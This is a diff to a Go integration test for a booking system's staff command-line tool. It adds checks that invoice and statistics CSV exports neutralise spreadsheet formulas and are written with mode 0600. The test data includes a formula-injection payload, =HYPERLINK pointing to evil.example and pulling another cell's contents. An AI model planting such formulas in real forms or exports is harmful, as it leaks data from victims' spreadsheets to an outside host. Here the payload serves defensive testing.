@@ -25,8 +25,17 @@ func TestStaffCommands(t *testing.T) {
 	ctx := context.Background()
 	root, _ := filepath.Abs("../..")
 	srv := httptest.NewUnstartedServer(nil)
+	prefix := "staff" + time.Now().Format("150405")
+	// -local finds the emulators by port, as with `make run`.
+	for env, u := range map[string]string{"RUN_DYNAMODB_PORT": os.Getenv("REKISTERI_TEST_DYNAMODB"), "RUN_MOTO_PORT": os.Getenv("REKISTERI_TEST_MOTO")} {
+		pu, err := url.Parse(u)
+		if err != nil || pu.Port() == "" {
+			t.Fatalf("%s from testenv: %q", env, u)
+		}
+		t.Setenv(env, pu.Port())
+	}
 	stack, err := local.Start(ctx, local.Options{
-		RepoRoot: root, Prefix: "staff" + time.Now().Format("150405"), PublicBaseURL: "http://" + srv.Listener.Addr().String(),
+		RepoRoot: root, Prefix: prefix, PublicBaseURL: "http://" + srv.Listener.Addr().String(),
 		DynamoDBURL: os.Getenv("REKISTERI_TEST_DYNAMODB"), MotoURL: os.Getenv("REKISTERI_TEST_MOTO"), LogDir: t.TempDir(),
 	})
 	if err != nil {
@@ -50,11 +59,13 @@ func TestStaffCommands(t *testing.T) {
 		return out
 	}
 
+	// A formula from the public form must reach staff's spreadsheet as text.
+	const evilName = `=HYPERLINK("https://evil.example/?"&J2,"x")`
 	date := helsinki.Today(time.Now()).AddDate(0, 0, 10).Format("2006-01-02")
 	month := date[:7]
 	ref := postJSON("/bookings", map[string]any{
 		"resource": "guide", "date": date, "start": "13:00", "end": "14:00", "participants": 12,
-		"first_name": "Pekka", "last_name": "Puupää", "email": "pekka@example.com", "payment": "invoice",
+		"first_name": evilName, "last_name": "Puupää", "email": "pekka@example.com", "payment": "invoice",
 		"street": "Koivutie 1", "postcode": "02200", "city": "Espoo", "hetu": "131052-308T",
 	})["reference"]
 	if err := stack.Drain(ctx); err != nil {
@@ -78,8 +89,7 @@ func TestStaffCommands(t *testing.T) {
 
 	csvPath := filepath.Join(t.TempDir(), "invoices.csv")
 	var out bytes.Buffer
-	err = run(ctx, []string{"invoices", "-from", month, "-to", month, "-csv", csvPath, "-actor", "laskuttaja",
-		"-bookings-table", stack.Resolve("BookingsTable"), "-audit-table", stack.Resolve("AuditTable")}, &out)
+	err = run(ctx, []string{"invoices", "-local", "-stack", prefix, "-from", month, "-to", month, "-csv", csvPath, "-actor", "laskuttaja"}, &out)
 	if err != nil || !strings.Contains(out.String(), "1 bookings written") {
 		t.Fatalf("invoices: %v %s", err, out.String())
 	}
@@ -89,10 +99,14 @@ func TestStaffCommands(t *testing.T) {
 	if len(rows) != 2 || rows[1][0] != ref || rows[1][9] != "131052-308T" {
 		t.Fatalf("invoice CSV: %v", rows)
 	}
+	if rows[1][6] != "'"+evilName+" Puupää" {
+		t.Errorf("name cell %q, want the formula neutralised with a leading apostrophe", rows[1][6])
+	}
+	assertNoFormulas(t, rows)
 	if info, _ := os.Stat(csvPath); info.Mode().Perm() != 0o600 {
 		t.Errorf("the invoice CSV holds identity codes; mode %v, want 0600", info.Mode().Perm())
 	}
-	if err := run(ctx, []string{"invoices", "-csv", csvPath, "-actor", "x", "-bookings-table", "b", "-audit-table", "a"}, &out); err == nil {
+	if err := run(ctx, []string{"invoices", "-local", "-stack", prefix, "-csv", csvPath, "-actor", "x"}, &out); err == nil {
 		t.Fatal("the tool must refuse to overwrite an existing CSV")
 	}
 
@@ -102,14 +116,36 @@ func TestStaffCommands(t *testing.T) {
 	stats := filepath.Join(t.TempDir(), "stats.csv")
 	out.Reset()
 	thisMonth := time.Now().UTC().Format("2006-01")
-	if err := run(ctx, []string{"feedback-stats", "-from", thisMonth, "-to", thisMonth, "-csv", stats, "-table", stack.Resolve("FeedbackTable")}, &out); err != nil {
+	if err := run(ctx, []string{"feedback-stats", "-local", "-stack", prefix, "-from", thisMonth, "-to", thisMonth, "-csv", stats}, &out); err != nil {
 		t.Fatal(err)
 	}
 	if !strings.Contains(out.String(), "18-29") || !strings.Contains(out.String(), "<5") {
 		t.Fatalf("stats table:\n%s", out.String())
 	}
+	sf, _ := os.Open(stats)
+	statRows, err := csv.NewReader(sf).ReadAll()
+	sf.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+	assertNoFormulas(t, statRows)
+	if info, _ := os.Stat(stats); info.Mode().Perm() != 0o600 {
+		t.Errorf("stats CSV mode %v, want 0600", info.Mode().Perm())
+	}
 	b, _ := os.ReadFile(stats)
 	if !strings.Contains(string(b), "age_group,18-29,6") || !strings.Contains(string(b), "transport,car,<5") {
 		t.Fatalf("stats CSV:\n%s", b)
+	}
+}
+
+// assertNoFormulas fails if any cell would start a spreadsheet formula.
+func assertNoFormulas(t *testing.T, rows [][]string) {
+	t.Helper()
+	for i, row := range rows {
+		for j, c := range row {
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Errorf("row %d cell %d starts a formula: %q", i, j, c)
+			}
+		}
 	}
 }
